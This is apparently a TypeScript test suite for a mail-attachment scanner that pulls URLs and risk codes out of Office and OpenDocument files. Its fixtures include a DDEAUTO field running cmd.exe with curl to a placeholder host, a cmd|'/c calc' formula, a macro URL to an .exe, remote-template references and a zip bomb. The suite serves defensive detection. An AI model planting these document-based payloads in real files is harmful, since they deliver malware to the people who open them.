import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Extraction } from '../../../src/indicators/types.js';
import { attachedUrls, attachmentNamed, mailWith } from '../../support/attachments.js';
import { compoundFile, packagedObject } from '../../support/compound-file.js';
import { codesOf, extract, urlsOf } from '../../support/extraction.js';
import { field, officeFile, relationships, run, wordDocument, wordNames } from '../../support/office-file.js';
import { qrPng } from '../../support/qr-images.js';
import { zipFile } from '../../support/zip-file.js';

function office(parts: Readonly<Record<string, string | Buffer>>, name = 'invoice.docx'): Promise<Extraction> {
  return extract(mailWith([{ name, bytes: officeFile(parts) }]));
}

describe('an Office document', () => {
  it('gives the targets of its links', async () => {
    const extraction = await office({
      'word/document.xml': wordDocument([run('Please pay')]),
      'word/_rels/document.xml.rels': relationships([
        { type: 'hyperlink', target: 'https://link.example/a?b=1&amp;c=2' },
        { type: 'styles', target: 'styles.xml', external: false },
        { type: 'hyperlink', target: 'mailto:person@mail.example' },
      ]),
    });
    assert.deepEqual(attachedUrls(extraction), ['attachment 2 https://link.example/a?b=1&c=2']);
    assert.deepEqual(codesOf(extraction), []);
    assert.ok(extraction.indicators?.some(({ type, value }) => type === 'email' && value === 'person@mail.example'));
    assert.equal(extraction.attachments.length, 1);
  });

  it('gives the codes of fields and texts that are split over runs', async () => {
    const extraction = await office({
      'word/document.xml': wordDocument([
        field([' HYPER', 'LINK "https://fie', 'ld.example/a" \\o "tip"'], 'click here'),
        `<w:fldSimple w:instr=" HYPERLINK &quot;https://simple.example/&quot; ">${run('x')}</w:fldSimple>`,
        `${run('see hxxps://spl')}${run('it[.]example/path')}`,
        run('and bare-host.com'),
      ]),
    });
    assert.deepEqual(attachedUrls(extraction).sort(), [
      'attachment 2 http://bare-host.com/',
      'attachment 2 https://field.example/a',
      'attachment 2 https://simple.example/',
      'attachment 2 https://split.example/path',
    ]);
    assert.deepEqual(codesOf(extraction), []);
  });

  const remote: readonly (readonly [string, string, string])[] = [
    ['a template', 'attachedTemplate', 'https://remote.example/t.dotm'],
    ['an object', 'oleObject', 'mhtml:https://remote.example/t.dotm!x-usc:https://remote.example/t.dotm'],
    ['a frame', 'frame', 'https://remote.example/t.dotm'],
    ['an image', 'image', 'https://remote.example/t.dotm'],
    ['a workbook', 'externalLinkPath', 'https://remote.example/t.dotm'],
  ];
  for (const [what, type, target] of remote) {
    it(`says that it loads ${what} from elsewhere`, async () => {
      const extraction = await office({ 'word/_rels/settings.xml.rels': relationships([{ type, target }]) });
      assert.deepEqual(attachedUrls(extraction), ['attachment 2 https://remote.example/t.dotm']);
      assert.deepEqual(codesOf(extraction), ['office-remote']);
    });
  }

  it('says nothing of a template on the own disk', async () => {
    const target = 'file:///C:\\Users\\a\\Normal.dotm';
    const extraction = await office({
      'word/_rels/settings.xml.rels': relationships([{ type: 'attachedTemplate', target }]),
    });
    assert.deepEqual(codesOf(extraction), []);
  });

  it('may be a workbook: formulas, shared strings, connections', async () => {
    const extraction = await office(
      {
        'xl/worksheets/sheet1.xml':
          '<worksheet><sheetData><row><c><f>HYPERLINK("https://formula."&amp;"example/x","Open")</f><v>Open</v></c></row></sheetData></worksheet>',
        'xl/sharedStrings.xml':
          '<sst><si><r><t>https://shared.</t></r><r><t>example/</t></r></si><si><t>next</t></si></sst>',
        'xl/connections.xml':
          '<connections><connection><webPr url="https://query.example/"/></connection></connections>',
        'xl/worksheets/_rels/sheet1.xml.rels': relationships([{ type: 'hyperlink', target: 'https://cell.example/' }]),
      },
      'a.xlsx',
    );
    assert.deepEqual(urlsOf(extraction).sort().slice(1), [
      'https://cell.example/',
      'https://formula.example/x',
      'https://query.example/',
      'https://shared.example/',
    ]);
  });

  it('may be a presentation', async () => {
    const extraction = await office(
      {
        'ppt/slides/slide1.xml':
          '<p:sld><a:p><a:r><a:t>www.slide-</a:t></a:r><a:r><a:t>host.com</a:t></a:r></a:p></p:sld>',
        'ppt/slides/_rels/slide1.xml.rels': relationships([{ type: 'hyperlink', target: 'https://slide.example/' }]),
      },
      'a.ppsx',
    );
    assert.deepEqual(urlsOf(extraction).slice(1).sort(), ['http://www.slide-host.com/', 'https://slide.example/']);
  });

  it('may be an OpenDocument file', async () => {
    const bytes = zipFile([
      { name: 'mimetype', bytes: Buffer.from('application/vnd.oasis.opendocument.text'), stored: true },
      {
        name: 'content.xml',
        bytes: Buffer.from(
          '<office:document-content xmlns:xlink="http://www.w3.org/1999/xlink"><text:p><text:a xlink:href="https://odt.example/">x</text:a></text:p><table:table-cell table:formula="of:=HYPERLINK(&quot;https://ods.example/&quot;)"/></office:document-content>',
        ),
      },
      {
        name: 'Basic/Standard/Module1.xml',
        bytes: Buffer.from('<script:module>Shell("https://basic.example/")</script:module>'),
      },
    ]);
    const extraction = await extract(mailWith([{ name: 'a.odt', bytes }]));
    assert.deepEqual(attachedUrls(extraction), [
      'attachment 2 https://odt.example/',
      'attachment 2 https://ods.example/',
      'script 2 https://basic.example/',
    ]);
    assert.deepEqual(codesOf(extraction), ['office-macro']);
  });

  it('gives what stands in its properties and custom parts, and no names of vocabularies', async () => {
    const extraction = await office({
      'docProps/app.xml':
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><HyperlinkBase>https://base.example/</HyperlinkBase></Properties>',
      'customXml/item1.xml':
        '<a xmlns="http://made.example/names"><b uri="http://schemas.microsoft.com/office/x">https://custom.example/</b></a>',
      'word/document.xml': `<w:document ${wordNames}><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/main"/></w:document>`,
    });
    assert.deepEqual(urlsOf(extraction).slice(1).sort(), ['https://base.example/', 'https://custom.example/']);
  });

  it('is known by what it holds, in a zip and under any name', async () => {
    const parts = {
      'word/_rels/document.xml.rels': relationships([{ type: 'hyperlink', target: 'https://any.example/' }]),
    };
    const document = officeFile(parts);
    const zipped = await extract(mailWith([{ name: 'a.zip', bytes: zipFile([{ name: 'b.docx', bytes: document }]) }]));
    assert.deepEqual(attachedUrls(zipped), ['attachment 2/a.zip!b.docx https://any.example/']);
    const unnamed = await extract(mailWith([{ name: 'document', bytes: document }]));
    assert.deepEqual(attachedUrls(unnamed), ['attachment 2 https://any.example/']);
    assert.equal(unnamed.attachments.length, 1);
  });

  it('that is only called one is an archive', async () => {
    const bytes = zipFile([{ name: 'page.html', bytes: Buffer.from('<a href="https://page.example/">x</a>') }]);
    const extraction = await extract(mailWith([{ name: 'a.docx', bytes }]));
    assert.deepEqual(attachedUrls(extraction), ['attachment 2/a.docx!page.html https://page.example/']);
  });

  it('has its macros said, and what they hold as constants', async () => {
    const source = Buffer.from('\x01\x00\xb0\0Attribut', 'latin1');
    const text = 'Attribute VB_Name = "M"\r\nu = "https://mac" & "ro.example/x.exe"\r\n';
    const chunk = Buffer.concat([Buffer.from([0]), Buffer.from(text.slice(0, 8)), literal(text.slice(8))]);
    source.writeUInt16LE(0xb000 | (chunk.length - 1), 1);
    const project = compoundFile({ VBA: { dir: Buffer.from('x'), M: Buffer.concat([source.subarray(0, 3), chunk]) } });
    const extraction = await office({ 'word/vbaProject.bin': project }, 'a.docm');
    assert.deepEqual(codesOf(extraction), ['office-macro']);
    assert.deepEqual(attachedUrls(extraction), ['script 2/a.docm!word/vbaProject.bin https://macro.example/x.exe']);
    assert.equal(attachmentNamed(extraction, 'vbaProject.bin').from, '2');
  });

  it('has commands of fields and formulas said', async () => {
    const dde = field([' DDEAUTO c:\\\\windows\\\\cmd.exe "/k curl https://dde.example/a" '], '');
    const word = await office({ 'word/document.xml': wordDocument([dde]) });
    assert.deepEqual(codesOf(word), ['office-macro', 'office-remote']);
    assert.deepEqual(urlsOf(word).slice(1), ['https://dde.example/a']);
    const simple = wordDocument(['<w:fldSimple w:instr="INCLUDEPICTURE &quot;https://pixel.example/&quot;"/>']);
    assert.deepEqual(codesOf(await office({ 'word/document.xml': simple })), ['office-remote']);
    const sheet = await office({ 'xl/worksheets/sheet1.xml': `<c><f>cmd|'/c calc'!A1</f></c>` }, 'a.xlsx');
    assert.deepEqual(codesOf(sheet), ['office-macro']);
  });

  it('has files within it named and looked into', async () => {
    const page = Buffer.from('<html><a href="https://inner.example/">x</a>');
    const object = compoundFile({ '\x01Ole10Native': packagedObject('open.html', page) });
    const extraction = await office({ 'word/embeddings/oleObject1.bin': object, 'word/afchunk.htm': page });
    assert.deepEqual(codesOf(extraction), ['office-object']);
    assert.deepEqual(extraction.attachments.map(({ part }) => part).sort(), [
      '2',
      '2/invoice.docx!word/afchunk.htm',
      '2/invoice.docx!word/embeddings/oleObject1.bin',
      '2/invoice.docx!word/embeddings/oleObject1.bin!open.html',
    ]);
    assert.deepEqual(urlsOf(extraction), ['https://body.example/', 'https://inner.example/']);
  });

  it('has its images looked into for codes, and not listed', async () => {
    const png = await qrPng('https://code.example/a');
    const extraction = await office({ 'word/media/image1.png': png });
    assert.deepEqual(attachedUrls(extraction), ['qr 2/invoice.docx!word/media/image1.png https://code.example/a']);
    assert.equal(extraction.attachments.length, 1);
  });

  it('of ten thousand parts is cut, and its links are read first', async () => {
    const many = Object.fromEntries(
      Array.from({ length: 10_000 }, (_, index) => [`word/part${index}.xml`, `<t>https://part.example/${index}</t>`]),
    );
    const started = performance.now();
    const extraction = await office({
      ...Object.fromEntries(Object.entries(many).slice(0, 3000)),
      'word/_rels/document.xml.rels': relationships([{ type: 'hyperlink', target: 'https://first.example/' }]),
      ...many,
    });
    assert.ok(codesOf(extraction).includes('office-cut'));
    assert.equal(urlsOf(extraction)[1], 'https://first.example/');
    assert.equal(extraction.urls.length, 1001);
    assert.ok(performance.now() - started < 10_000);
  });

  it('that unpacks to gigabytes is cut, searched from its beginning, and harms nothing beside it', async () => {
    const bomb = Buffer.concat([Buffer.from('<t>https://start.example/</t>'), Buffer.alloc(40_000_000, 32)]);
    const extraction = await extract(
      mailWith([
        {
          name: 'bomb.docx',
          bytes: officeFile({
            'word/document.xml': bomb,
            'word/footer.xml': bomb,
            'word/a.xml': bomb,
            'word/b.xml': bomb,
            'word/c.xml': bomb,
          }),
        },
        { name: 'page.html', bytes: Buffer.from('<a href="https://beside.example/">x</a>') },
      ]),
    );
    assert.ok(codesOf(extraction).includes('office-cut'));
    assert.ok(urlsOf(extraction).includes('https://start.example/'));
    assert.ok(urlsOf(extraction).includes('https://beside.example/'));
  });

  it('with a password says so', async () => {
    const bytes = compoundFile({ EncryptionInfo: Buffer.from('x'), EncryptedPackage: Buffer.alloc(5000, 7) });
    assert.deepEqual(codesOf(await extract(mailWith([{ name: 'a.xlsx', bytes }]))), ['office-encrypted']);
    const manifest =
      '<manifest:manifest><manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data manifest:checksum="x"/></manifest:file-entry></manifest:manifest>';
    const odt = zipFile([
      { name: 'META-INF/manifest.xml', bytes: Buffer.from(manifest) },
      { name: 'content.xml', bytes: Buffer.alloc(300, 0x9f) },
    ]);
    assert.deepEqual(codesOf(await extract(mailWith([{ name: 'a.odt', bytes: odt }]))), ['office-encrypted']);
  });
});

/** Tokens of a packed VBA module, none of them a copy (MS-OVBA §2.4.1.1.7). */
function literal(text: string): Buffer {
  const pieces: Buffer[] = [];
  for (let at = 0; at < text.length; at += 8) pieces.push(Buffer.from([0]), Buffer.from(text.slice(at, at + 8)));
  return Buffer.concat(pieces);
}
